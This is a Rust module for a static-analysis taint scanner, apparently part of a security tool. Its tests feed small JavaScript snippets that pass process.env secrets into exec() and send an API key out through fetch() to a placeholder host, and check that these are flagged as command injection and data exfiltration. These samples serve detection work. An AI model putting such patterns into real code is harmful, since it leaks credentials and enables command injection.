//! Taint dataflow: builds a per-file graph from a parsed syntax tree,
//! propagates taint from sources to sinks, and turns the tainted paths
//! into findings.

pub mod construct;
pub mod graph;
pub mod taint;

pub use construct::build_graph;
pub use graph::{DataflowGraph, Edge, EdgeKind, Node, NodeId, NodeKind, SinkSubtype, SourceSubtype};
pub use taint::{finding_for_path, propagate, reconstruct_paths, DataflowPath};

use acidtest_ast::SyntaxNode;
use acidtest_core::Finding;

/// Runs the full dataflow pipeline for one file's syntax tree: construct,
/// propagate, reconstruct, and convert every surviving path into a finding.
pub fn scan_tree(tree: &SyntaxNode, file: &str) -> Vec<Finding> {
    let graph = build_graph(tree);
    let tainted = propagate(&graph);
    let paths = reconstruct_paths(&graph, &tainted);
    paths.iter().filter_map(|path| finding_for_path(&graph, path, file)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use acidtest_parser::{FrontEnd, JavaScriptFrontEnd};
    use std::path::Path;

    #[test]
    fn scan_tree_reports_env_to_exec() {
        let out = JavaScriptFrontEnd.parse(Path::new("a.js"), "const k = process.env.SECRET; exec(k);").unwrap();
        let findings = scan_tree(&out.tree, "a.js");
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].category, "command-injection");
    }

    #[test]
    fn scan_tree_reports_property_chain_to_fetch() {
        let out = JavaScriptFrontEnd
            .parse(Path::new("a.js"), "const config = {}; config.apiKey = process.env.KEY; fetch('https://x', {body: config.apiKey});")
            .unwrap();
        let findings = scan_tree(&out.tree, "a.js");
        assert!(!findings.is_empty());
        assert!(findings.iter().any(|f| f.category == "data-exfiltration"));
    }

    #[test]
    fn scan_tree_is_empty_for_untainted_code() {
        let out = JavaScriptFrontEnd.parse(Path::new("a.js"), "const safe = 'x'; exec(safe);").unwrap();
        let findings = scan_tree(&out.tree, "a.js");
        assert!(findings.is_empty());
    }
}
